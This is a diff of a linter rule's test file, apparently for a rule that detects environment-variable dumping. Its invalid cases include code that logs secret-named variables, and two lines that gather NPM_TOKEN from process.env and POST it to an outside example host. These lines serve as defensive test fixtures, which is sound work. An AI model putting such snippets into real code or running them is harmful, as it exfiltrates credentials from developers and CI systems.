@@ -88,6 +88,9 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
   ],
   invalid: [
+    // the secrets alone are shown, or one kind of them is covered
+    { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /KEY|TOKEN/.test(name) ? value : "***");', errors: [{ messageId: 'dump' }] },
+    { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /^keyboard$/.test(name) ? "***" : value);', errors: [{ messageId: 'dump' }] },
     // a list of secrets, a list of exceptions and a single letter are no selection
     { code: 'const WANTED = ["NPM_TOKEN", "HOME"]; const out = {}; for (const k of Object.keys(process.env)) if (WANTED.includes(k)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
     { code: 'const WANTED = new Set(["NPM_TOKEN", "HOME"]); const out = {}; for (const k of Object.keys(process.env)) if (WANTED.has(k)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
